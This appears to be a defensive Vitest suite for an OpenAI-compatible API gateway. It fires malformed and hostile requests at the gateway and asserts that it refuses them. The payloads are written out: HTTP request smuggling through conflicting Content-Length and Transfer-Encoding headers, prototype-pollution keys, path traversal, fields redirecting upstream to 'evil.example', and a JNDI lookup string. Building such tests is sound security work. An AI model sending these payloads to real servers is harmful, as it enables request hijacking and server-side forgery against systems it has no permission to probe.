import { type AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fastifyAdapter } from '../../src/http/listener.js';
import { systemClock } from '../../src/kernel/clock.js';
import { GatewayProcess } from '../support/gateway-process.js';
import { type HttpResponse } from '../support/http-response.js';
import { RawConnection, requestBytes } from '../support/raw-connection.js';
import { ScriptedUpstream } from '../support/scripted-upstream.js';

const KEY = 'a-key-of-the-tests-0123456789';
const AUTH = `Authorization: Bearer ${KEY}`;
const JSON_TYPE = 'Content-Type: application/json';
const LINE = 'POST /v1/chat/completions HTTP/1.1';
const ASK = { model: 'm', messages: [{ role: 'user', content: 'Hello' }] };
const BODY_LIMIT = 4 << 20;

/** What is sent, and what must come of it. */
interface Attack {
  readonly name: string;
  readonly bytes: Buffer;
  /** Allowed statuses; 0 = the connection is closed without a word. */
  readonly status: readonly number[];
  readonly code?: string;
  readonly param?: string | null;
  /** The connection must not be used again. */
  readonly closes?: boolean;
  /** Ledger lines that the request must leave; 0 where it was refused at the door. */
  readonly lines: 0 | 1;
}

type Wish = Partial<Omit<Attack, 'name' | 'bytes'>>;

const chat = (body: unknown, headers: readonly string[] = []): Buffer =>
  requestBytes(
    LINE,
    [AUTH, JSON_TYPE, ...headers],
    typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
  );

/** A body that the gateway reads, and refuses for what it holds. */
const body = (name: string, value: unknown, wish: Wish = {}): Attack => ({
  name,
  bytes: chat(value),
  status: [400],
  lines: 1,
  ...wish,
});

/** A request that is refused before its body is read. */
const door = (name: string, bytes: Buffer | string, wish: Wish): Attack => ({
  name,
  bytes: Buffer.from(bytes as string, 'latin1'),
  status: [400],
  lines: 0,
  ...wish,
});

const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const withMember = (text: string): string => `${JSON.stringify(ASK).slice(0, -1)},${text}}`;
const invalid = (param: string): Wish => ({ code: 'invalid_value', param });
const badJson: Wish = { code: 'invalid_json', param: null };
const mediaType: Wish = { status: [415], code: 'unsupported_media_type' };
const tooLarge = { status: [413], code: 'request_too_large', closes: true };
const closed: Wish = { code: 'bad_request', closes: true };
const small = JSON.stringify(ASK);

const BODIES: readonly Attack[] = [
  body('no body', '', badJson),
  body('half an object', '{"model":"m","messages":[', badJson),
  body('a bare value', '7', badJson),
  body('an array', '[]', badJson),
  body('null', 'null', badJson),
  body('two objects', '{}{}', badJson),
  body('text after the object', `${small} x`, badJson),
  body('a byte order mark', `\uFEFF${small}`, { status: [200, 400] }),
  body('NaN', withMember('"temperature":NaN'), badJson),
  body('a number too large for a double', withMember('"temperature":1e400'), invalid('temperature')),
  body('a number of 100,000 digits as a cap', withMember(`"max_tokens":${'9'.repeat(100_000)}`), invalid('max_tokens')),
  body('2^53 as a cap', withMember('"max_tokens":9007199254740992'), invalid('max_tokens')),
  body('minus zero', withMember('"temperature":-0'), { status: [200] }),
  body('invalid UTF-8', Buffer.from([...Buffer.from('{"model":"m'), 0xff, 0xfe, 0x22, 0x7d]), badJson),
  body('an overlong UTF-8 sequence', Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d]), badJson),
  body('lone surrogates', withMember('"user":"\\ud800"'), { status: [200] }),
  body('depth of 33', withMember(`"x":${nested(32)}`), badJson),
  body('depth of 100,000', withMember(`"x":${nested(100_000)}`), badJson),
  body('a million open brackets', '['.repeat(1_000_000), badJson),
  body('a megabyte of empty arrays', withMember(`"x":[${'[],'.repeat(300_000)}[]]`), { status: [200] }),
  body('100,000 members', withMember(Array.from({ length: 100_000 }, (_, at) => `"k${at}":1`).join(',')), {
    status: [200],
  }),
  body('model twice', withMember('"model":"other"'), invalid('model')),
  body('model twice, once escaped', withMember('"m\\u006fdel":"other"'), invalid('model')),
  body('stream twice', withMember('"stream":false,"stream":true'), invalid('stream')),
  body('__proto__', withMember('"__proto__":{"admin":true}'), badJson),
  body('__proto__, escaped', withMember('"\\u005f_proto__":{"admin":true}'), badJson),
  body(
    '__proto__ in a message',
    '{"model":"m","messages":[{"role":"user","content":"x","__proto__":{"a":1}}]}',
    badJson,
  ),
  body('constructor.prototype', withMember('"constructor":{"prototype":{"a":1}}'), badJson),
  body('__proto__ in metadata', withMember('"metadata":{"__proto__":{"a":"1"}}'), badJson),
  body('__proto__ in a tool', withMember('"tools":[{"type":"function","function":{"__proto__":{"a":1}}}]'), badJson),
  ...['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf'].map((model) =>
    body(`a model called ${model}`, { ...ASK, model }, { status: [404], code: 'model_not_found', param: 'model' }),
  ),
  body('an unknown model', { ...ASK, model: 'gpt-🙂' }, { status: [404], code: 'model_not_found' }),
  body('a model that is no text', { ...ASK, model: ['m'] }, invalid('model')),
  body('a model of 10,000 characters', { ...ASK, model: 'm'.repeat(10_000) }, invalid('model')),
  body('no messages', { model: 'm' }, invalid('messages')),
  body('messages that are a text', { ...ASK, messages: 'Hello' }, invalid('messages')),
  body('a message that is a text', { ...ASK, messages: ['Hello'] }, invalid('messages[0]')),
  body('a role nobody has', { ...ASK, messages: [{ role: 'root', content: 'x' }] }, invalid('messages[0].role')),
  body(
    'content that is a number',
    { ...ASK, messages: [{ role: 'user', content: 7 }] },
    invalid('messages[0].content'),
  ),
  body('a user that is an object', { ...ASK, user: { id: 1 } }, invalid('user')),
  body('128 choices', { ...ASK, n: 128 }, invalid('n')),
  body('a service tier nobody has', { ...ASK, service_tier: 'free' }, invalid('service_tier')),
  body('129 tools', { ...ASK, tools: Array.from({ length: 129 }, () => ({ type: 'function' })) }, invalid('tools')),
  ...[
    'api_base',
    'base_url',
    'api_key',
    'api_version',
    'api_type',
    'organization',
    'extra_headers',
    'extra_query',
    'extra_body',
  ].map((member) => body(`${member} in the body`, { ...ASK, [member]: 'http://evil.example' }, invalid(member))),
  body('api_base, escaped', withMember('"api\\u005fbase":"http://evil.example"'), invalid('api_base')),
];

const HEADERS: readonly Attack[] = [
  door('no key', requestBytes(LINE, [JSON_TYPE], small), { status: [401], code: 'invalid_api_key' }),
  door('a wrong key', requestBytes(LINE, ['Authorization: Bearer wrong', JSON_TYPE], small), {
    status: [401],
    code: 'invalid_api_key',
  }),
  door('two keys', requestBytes(LINE, [AUTH, 'Authorization: Bearer wrong', JSON_TYPE], small), {
    ...closed,
  }),
  door(
    'a wrong key and 1 GiB to come',
    requestBytes(LINE, [
      'Authorization: Bearer wrong',
      JSON_TYPE,
      'Content-Length: 1073741824',
      'Expect: 100-continue',
    ]),
    {
      status: [401],
      code: 'invalid_api_key',
    },
  ),
  door(
    '1 GiB to come',
    requestBytes(LINE, [AUTH, JSON_TYPE, 'Content-Length: 1073741824', 'Expect: 100-continue']),
    tooLarge,
  ),
  door('10^12 bytes to come', requestBytes(LINE, [AUTH, JSON_TYPE, 'Content-Length: 1000000000000']), tooLarge),
  door('an expectation nobody knows', chat(small, ['Expect: 200-maybe']), closed),
  ...['gzip', 'br', 'zstd', 'deflate, gzip', 'gzip, '.repeat(1_000) + 'gzip'].map((encoding) =>
    door(`Content-Encoding ${encoding.slice(0, 20)}`, chat(small, [`Content-Encoding: ${encoding}`]), mediaType),
  ),
  ...['text/plain', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'text/json', '*/*'].map(
    (type) =>
      door(`Content-Type ${type}`, requestBytes(LINE, [AUTH, `Content-Type: ${type}`], small), {
        ...mediaType,
        lines: 1,
      }),
  ),
  door('no Content-Type', requestBytes(LINE, [AUTH], small), { ...mediaType, lines: 1 }),
  // Whatever the type is taken for, the schema is not passed by.
  ...[
    'application/json\tx',
    '  application/json',
    'application/json garbage',
    'application/json;charset=utf-7',
    'application/json; charset="',
  ].map((type) =>
    door(
      `Content-Type ${JSON.stringify(type)} over a bad body`,
      requestBytes(LINE, [AUTH, `Content-Type: ${type}`], '{"model":7}'),
      {
        status: [400, 415],
        lines: 1,
      },
    ),
  ),
  door(
    '101 headers',
    chat(
      small,
      Array.from({ length: 101 }, (_, at) => `x-h${at}: 1`),
    ),
    {
      status: [431],
      code: 'headers_too_large',
      closes: true,
    },
  ),
  door(
    '2,500 headers',
    chat(
      small,
      Array.from({ length: 2_500 }, (_, at) => `h${at}:`),
    ),
    {
      status: [431],
      code: 'headers_too_large',
      closes: true,
    },
  ),
  door('a header of 17 KiB', chat(small, [`x-long: ${'x'.repeat(17 << 10)}`]), {
    status: [431],
    code: 'headers_too_large',
    closes: true,
  }),
  door('a header name of 8 KiB', chat(small, [`${'x'.repeat(8 << 10)}: 1`]), { status: [200], lines: 1 }),
  door('a tracestate of 64 KiB', chat(small, [`tracestate: ${'x'.repeat(64 << 10)}`]), { status: [431], closes: true }),
  door('a __proto__ header', chat(small, ['__proto__: 1', 'constructor: 2']), { status: [200], lines: 1 }),
  door('an escape character in a header', chat(small, ['x-a: \x1b[31m']), closed),
  door('a null byte in a header', chat(small, ['x-a: a\0b']), closed),
  door('a provider called constructor', chat(small, ['X-Provider-Priority: constructor']), {
    code: 'unknown_provider',
    lines: 1,
  }),
  door('an unknown provider', chat(small, ['X-Provider-Priority: up,elsewhere']), {
    code: 'unknown_provider',
    lines: 1,
  }),
  door('no Host', `${LINE}\r\n${AUTH}\r\n${JSON_TYPE}\r\nContent-Length: ${small.length}\r\n\r\n${small}`, closed),
  door(
    'a target on another host',
    requestBytes('POST http://evil.example/v1/chat/completions HTTP/1.1', [AUTH, JSON_TYPE], small),
    closed,
  ),
  door(
    'an evil Host',
    `${LINE}\r\nHost: evil.example:1\r\n${AUTH}\r\n${JSON_TYPE}\r\nContent-Length: ${small.length}\r\n\r\n${small}`,
    { status: [200], lines: 1 },
  ),
];

const framedId = (name: string): string => `framed.${name.replaceAll(/\W/g, '-')}`;
const raw = (name: string, framing: string, text: string, wish: Wish = closed): Attack =>
  door(
    name,
    `${LINE}\r\nHost: g\r\n${AUTH}\r\n${JSON_TYPE}\r\nX-Request-ID: ${framedId(name)}\r\n${framing}\r\n\r\n${text}`,
    wish,
  );
/** A second request inside the first one's body: it must never be served. */
const SMUGGLED = `${LINE}\r\nHost: g\r\n${AUTH}\r\n${JSON_TYPE}\r\nX-Request-ID: smuggled\r\nContent-Length: ${small.length}\r\n\r\n${small}`;

const FRAMING: readonly Attack[] = [
  raw(
    'Content-Length and Transfer-Encoding',
    `Content-Length: ${small.length}\r\nTransfer-Encoding: chunked`,
    `0\r\n\r\n${SMUGGLED}`,
  ),
  raw(
    'Transfer-Encoding and Content-Length',
    `Transfer-Encoding: chunked\r\nContent-Length: 4`,
    `5c\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  ),
  raw('two Transfer-Encodings', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', `0\r\n\r\n${SMUGGLED}`),
  raw('an obfuscated Transfer-Encoding', 'Transfer-Encoding: xchunked', `0\r\n\r\n${SMUGGLED}`, {
    ...closed,
    lines: 1,
  }),
  raw('chunked that is not last', 'Transfer-Encoding: chunked, identity', `0\r\n\r\n${SMUGGLED}`),
  raw('a space before the colon', `Transfer-Encoding : chunked\r\nContent-Length: 5`, `0\r\n\r\n${SMUGGLED}`),
  raw('a folded Transfer-Encoding', 'Transfer-Encoding:\r\n chunked\r\nContent-Length: 5', `0\r\n\r\n${SMUGGLED}`),
  raw('two lengths', `Content-Length: 0\r\nContent-Length: ${small.length}`, SMUGGLED),
  raw('a length with a sign', `Content-Length: +${small.length}`, SMUGGLED),
  raw('a negative length', 'Content-Length: -1', SMUGGLED),
  raw('a length with a space', 'Content-Length: 1 0', SMUGGLED),
  raw('a length in hex', 'Content-Length: 0x10', SMUGGLED),
  raw('a list of lengths', 'Content-Length: 0, 0', SMUGGLED),
  raw('a bare line feed between headers', `X-A: 1\nContent-Length: 0`, SMUGGLED),
  raw('a bare carriage return', `X-A: 1\rContent-Length: 0`, SMUGGLED),
  raw('a chunk size that overflows', 'Transfer-Encoding: chunked', `ffffffffffffffffff\r\n${SMUGGLED}`, {
    ...closed,
    lines: 1,
  }),
  raw('a chunk size with a sign', 'Transfer-Encoding: chunked', `+1\r\n${SMUGGLED}`, { ...closed, lines: 1 }),
  raw('a chunk extension with a bare line feed', 'Transfer-Encoding: chunked', `0;a=\n${SMUGGLED}`, {
    ...closed,
    lines: 1,
  }),
  raw('chunk lines that end in a bare line feed', 'Transfer-Encoding: chunked', `0\n\n${SMUGGLED}`, {
    ...closed,
    lines: 1,
  }),
  raw('a chunk longer than it says', 'Transfer-Encoding: chunked', `1\r\nxxx\r\n0\r\n\r\n${SMUGGLED}`, {
    ...closed,
    lines: 1,
  }),
  door(
    'a key that comes as a trailer',
    `${LINE}\r\nHost: g\r\n${JSON_TYPE}\r\nTransfer-Encoding: chunked\r\n\r\n${small.length.toString(16)}\r\n${small}\r\n0\r\n${AUTH}\r\n\r\n`,
    {
      status: [401],
      code: 'invalid_api_key',
    },
  ),
];

const get = (line: string): Buffer => requestBytes(line, [AUTH, 'Content-Length: 0']);
const PATHS: readonly Attack[] = [
  ...['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND'].map((method) =>
    door(`${method} of a chat completion`, get(`${method} /v1/chat/completions HTTP/1.1`), { status: [404, 405] }),
  ),
  ...[
    '/admin/v1/drain',
    '/metrics',
    '/v1/admin',
    '//v1/chat/completions',
    '/v1/..;/admin',
    '/v1/%2e%2e/metrics',
    '/v1%2fchat%2fcompletions',
    '/v1/chat/completions/',
    '/%',
    '/v1/models/%E0%A4%A',
    '/v1/models/constructor',
    '/v1/models/__proto__',
    `/v1/models/${'x'.repeat(5_000)}`,
    '/v1/embeddings',
    '/debug',
    '/.env',
  ].map((path) => door(`GET ${path.slice(0, 40)}`, get(`GET ${path} HTTP/1.1`), { status: [400, 404] })),
  door('a path with a fragment', get('GET /v1/models#x HTTP/1.1'), { status: [200, 400, 404] }),
  door('OPTIONS *', get('OPTIONS * HTTP/1.1'), { status: [400, 404] }),
  door('an unknown method', get('BREW /v1/chat/completions HTTP/1.1'), closed),
];

const PROTOCOLS: readonly Attack[] = [
  door('HTTP/2 in plain text', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', { status: [400, 0], closes: true }),
  door('HTTP/0.9', 'GET /v1/models\r\n\r\n', { ...closed }),
  door('HTTP/3.7', 'GET /v1/models HTTP/3.7\r\nHost: g\r\n\r\n', { ...closed }),
  door('a TLS hello', Buffer.from('16030100c8010000c40303', 'hex').toString('latin1') + 'x'.repeat(200), { ...closed }),
  door('8 KiB of garbage', '\x01\x02garbage '.repeat(800), { ...closed }),
  door('CONNECT', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n', {
    status: [0, 400, 404, 405],
    closes: true,
  }),
  door(
    'an upgrade to a web socket',
    requestBytes('GET /v1/chat/completions HTTP/1.1', [
      AUTH,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Content-Length: 0',
    ]),
    {
      status: [404, 405],
    },
  ),
];

describe('input that means no good', () => {
  let upstream: ScriptedUpstream;
  let gateway: GatewayProcess;
  /** Ids of answered requests, and how many ledger lines each must have. */
  const expectedLines = new Map<string, number>();

  beforeAll(async () => {
    upstream = await ScriptedUpstream.start((_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(
        JSON.stringify({
          id: 'c',
          object: 'chat.completion',
          created: 1,
          model: 'm',
          choices: [{ index: 0, message: { role: 'assistant', content: 'Hi' }, finish_reason: 'stop' }],
          usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
        }),
      );
    });
    gateway = await GatewayProcess.start({
      config: {
        version: 1,
        auth: { keys: [{ id: 'tests', secret: KEY }] },
        providers: [
          { name: 'up', kind: 'openai', baseUrl: upstream.baseUrl, allowPrivate: true, probe: { enabled: false } },
        ],
        models: [{ name: 'm', targets: [{ provider: 'up', model: 'm' }] }],
        limits: { bodyBytes: BODY_LIMIT },
        // A busy machine must not decide what these requests are told.
        resilience: { shedding: { enabled: false } },
      },
    });
  });
  afterAll(async () => {
    await gateway.stop();
    await upstream.stop();
  });

  function expectOpenAiShape({ headers, body: text }: HttpResponse): { code: string | null; param: string | null } {
    expect(headers['content-type']).toMatch(/^application\/json/);
    const { error } = JSON.parse(text.toString()) as { error: Record<string, string | null> };
    expect(Object.keys(error).sort()).toEqual(['code', 'message', 'param', 'type']);
    expect([typeof error.message, typeof error.type]).toEqual(['string', 'string']);
    for (const value of [error.param, error.code]) expect(value === null || typeof value === 'string').toBe(true);
    expect(text.toString()).not.toMatch(/127\.0\.0\.1|node_modules|\.js:\d|a-key-of-the-tests/);
    return { code: error.code!, param: error.param! };
  }

  async function expectHeld({ bytes, status, code, param, closes, lines }: Attack): Promise<void> {
    const connection = await RawConnection.open(gateway.publicUrl);
    try {
      const answer = await connection
        .send(bytes)
        .answer()
        .catch((error: unknown) => {
          if (!status.includes(0)) throw error;
        });
      if (!answer) return;
      expect(status).toContain(answer.status);
      expect(answer.headers['x-request-id']).toMatch(/^[\w.-]{1,128}$/);
      // What breaks off in the middle of a body is answered by Node's parser, which knows no request.
      const framed = /X-Request-ID: (framed\.\S+)/.exec(bytes.toString('latin1', 0, 1_000))?.[1];
      expectedLines.set(framed ?? answer.headers['x-request-id']!, lines);
      if (answer.status !== 200) {
        const told = expectOpenAiShape(answer);
        if (code !== undefined) expect(told.code).toBe(code);
        if (param !== undefined) expect(told.param).toBe(param);
      }
      if (closes) {
        await connection.closed();
        expect(connection.unread).toBe('');
      }
    } finally {
      connection.destroy();
    }
  }

  describe('in the body', () => {
    it.each(BODIES)('$name', expectHeld);

    it('a body over the limit, its length told: refused before it comes', () => {
      const bytes = requestBytes(LINE, [AUTH, JSON_TYPE, `Content-Length: ${BODY_LIMIT + 1}`], 'x');
      return expectHeld({ name: '', bytes, ...tooLarge, lines: 0 });
    });

    it('a body over the limit, chunked: refused at the limit', () => {
      const chunk = (length: number): string => `${length.toString(16)}\r\n${'x'.repeat(length)}\r\n`;
      const text = chunk(1 << 20).repeat(BODY_LIMIT >> 20) + chunk(1);
      const bytes = requestBytes(LINE, [AUTH, JSON_TYPE, 'Transfer-Encoding: chunked'], text);
      return expectHeld({ name: '', bytes, ...tooLarge, lines: 1 });
    });
  });

  it.each(HEADERS)('in the headers: $name', expectHeld);
  it.each(FRAMING)('in the framing: $name', expectHeld);
  it.each(PATHS)('in the path: $name', expectHeld);
  it.each(PROTOCOLS)('instead of HTTP/1.1: $name', expectHeld);

  it('pipelined requests: each is answered, in order', async () => {
    const connection = await RawConnection.open(gateway.publicUrl);
    const ids = Array.from({ length: 200 }, (_, at) => `pipelined-${at}`);
    connection.send(Buffer.concat(ids.map((id) => chat(small, [`X-Request-ID: ${id}`]))));
    for (const id of ids) {
      const answer = await connection.answer();
      expect([answer.status, answer.headers['x-request-id']]).toEqual([200, id]);
      expectedLines.set(id, 1);
    }
    connection.destroy();
  });

  it('HTTP/1.0: answered, and never kept alive', async () => {
    const connection = await RawConnection.open(gateway.publicUrl);
    const line = 'POST /v1/chat/completions HTTP/1.0';
    const answer = await connection
      .send(requestBytes(line, [AUTH, JSON_TYPE, 'Connection: keep-alive', 'X-Request-ID: old'], small))
      .answer();
    expect([answer.status, answer.complete]).toEqual([200, true]);
    await connection.closed();
    expectedLines.set('old', 1);
  });

  it('a caller that closes its half of the connection is taken for gone', async () => {
    const connection = await RawConnection.open(gateway.publicUrl);
    connection.send(chat(small, ['X-Request-ID: half-open'])).socket.end();
    await connection.closed();
    await gateway.ledger('half-open');
    expectedLines.set('half-open', 1);
  });

  it('callers that vanish after their headers, or in the middle of their body, leave nothing behind', async () => {
    for (const text of ['', small.slice(0, 20)]) {
      for (let at = 0; at < 20; at++) {
        const id = `vanished-${text.length}-${at}`;
        const connection = await RawConnection.open(gateway.publicUrl);
        const head = requestBytes(LINE, [
          AUTH,
          JSON_TYPE,
          `X-Request-ID: ${id}`,
          'Content-Length: 500',
          'Expect: 100-continue',
        ]);
        connection.send(head, text);
        expect((await connection.answer()).status).toBe(100);
        connection.socket.resetAndDestroy();
        expectedLines.set(id, 1);
        expect(await gateway.ledger(id)).toMatchObject({ end: 'cancelled', status: 499 });
      }
    }
  });

  it.each([
    ['line breaks', 'a\r\n b'],
    ['10 KiB', 'x'.repeat(10 << 10)],
    ['a log line', 'a"}\\n{"level":60'],
    ['colours', '%1b[31m'],
    ['a line separator', '\xe2\x80\xa8'],
    ['a lookup', '${jndi:ldap://evil.example}'],
    ['nothing', ''],
  ])('a request id of %s is replaced, and the log stays one JSON line per request', async (_what, id) => {
    const connection = await RawConnection.open(gateway.publicUrl);
    const answer = await connection.send(chat(small, [`X-Request-ID: ${id}`])).answer();
    const given = answer.headers['x-request-id']!;
    if (answer.status === 200) expectedLines.set(given, 1);
    expect(given).toMatch(/^req_[0-9A-Z]{26}$/);
    expect(() => gateway.log).not.toThrow();
    connection.destroy();
  });

  it('tracing headers: a valid traceparent goes upstream, and nothing else of them', async () => {
    const valid = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
    for (const traceparent of [
      '00-xyz',
      '00-00000000000000000000000000000000-b7ad6b7169203331-01',
      `${valid}-more`,
      valid,
    ]) {
      upstream.received.length = 0;
      await (
        await gateway.post(ASK, {
          authorization: `Bearer ${KEY}`,
          traceparent,
          tracestate: 'a=b',
          baggage: 'secret=1',
          cookie: 'a=b',
        })
      ).text();
      const { headers } = upstream.received[0]!;
      // Another span may stand in for the caller's, in the same trace.
      if (traceparent === valid) expect(headers.traceparent).toContain('0af7651916cd43dd8448eb211c80319c');
      else
        expect(headers.traceparent ?? '').not.toContain(
          traceparent.startsWith(valid.slice(0, 10)) ? 'more' : traceparent,
        );
      expect([headers.baggage, headers.cookie, headers.authorization]).toEqual([undefined, undefined, undefined]);
    }
  });

  it('a body that does not come in time: 408', async () => {
    const adapter = fastifyAdapter(systemClock);
    const { server } = adapter.getInstance();
    expect([server.requestTimeout, server.headersTimeout, server.keepAliveTimeout]).toEqual([30_000, 10_000, 75_000]);
    server.once('connection', (socket) => {
      // What Node emits when the time is over.
      server.emit('clientError', Object.assign(new Error(), { code: 'ERR_HTTP_REQUEST_TIMEOUT' }), socket);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const connection = await RawConnection.open(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    const answer = await connection.answer();
    expect([answer.status, expectOpenAiShape(answer).code]).toEqual([408, 'request_timeout']);
    await connection.closed();
    server.close();
  });

  it('after all that: it still answers, holds nothing, and has told each request exactly once', async () => {
    const last = await gateway.post(ASK, { authorization: `Bearer ${KEY}`, 'x-request-id': 'the-last' });
    expect([gateway.exited, last.status]).toEqual([false, 200]);
    await last.text();
    await gateway.ledger('the-last');
    expect((await gateway.metrics()).get('gateway_in_flight_requests')).toBe(0);

    const counts = new Map<unknown, number>();
    for (const { msg, requestId } of gateway.log) {
      if (msg === 'request') counts.set(requestId, (counts.get(requestId) ?? 0) + 1);
    }
    expect(expectedLines.size).toBeGreaterThan(200);
    for (const [id, lines] of expectedLines) expect([id, counts.get(id) ?? 0]).toEqual([id, lines]);
    expect(counts.has('smuggled')).toBe(false);
    expect(gateway.stderr).not.toMatch(/Unhandled|internal_error|Maximum call stack/i);
    expect(gateway.log.filter(({ level }) => level === 'error')).toEqual([]);
  });
});
